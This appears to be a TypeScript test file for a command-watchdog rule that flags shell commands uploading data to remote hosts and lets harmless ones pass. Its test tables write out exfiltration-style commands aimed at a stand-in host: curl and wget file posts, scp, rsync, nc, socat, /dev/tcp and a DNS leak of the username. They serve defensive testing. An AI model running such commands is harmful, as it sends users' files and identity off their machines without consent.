import { describe, expect, it } from "vitest";
import { makeCommandCall } from "../../test-support/watchdog-call.ts";
import { CallFacts } from "../reading/call-facts.ts";
import type { WatchdogVerdict } from "../watchdog.ts";
import { upload } from "./upload.ts";

const judge = (line: string): WatchdogVerdict | undefined =>
  upload(new CallFacts(makeCommandCall(line)));

describe("the rule on uploads", () => {
  it.each([
    "curl -d @data.json https://api.x.com",
    "curl -T a.tgz https://x.com",
    "curl -F f=@a.pdf https://x.com",
    "curl --data-binary @a https://x.com",
    "wget --post-file=a https://x.com",
    "scp a.tgz me@x.com:/srv",
    "rsync -a dist/ x.com:/srv",
    "nc x.com 80",
    "socat - TCP:x.com:80",
    "echo x > /dev/tcp/1.2.3.4/80",
    "dig $(whoami).x.com",
  ])("asks about %s", (line) => {
    expect(judge(line)).toEqual({ action: "ask", reason: expect.any(String) });
  });

  it.each([
    "curl https://x.com",
    "curl -d a=1 https://x.com",
    "curl -d @- https://x.com",
    "curl -d @data.json http://localhost:3000",
    "curl -F f=@a http://127.0.0.1:80/x",
    "scp x.com:/a b",
    "rsync -a x.com:/a b",
    "rsync -a a/ b/",
    "wget https://x.com",
    "dig x.com",
    "ping $HOST",
    "git push origin main",
  ])("has nothing to say about %s", (line) => {
    expect(judge(line)).toBeUndefined();
  });
});
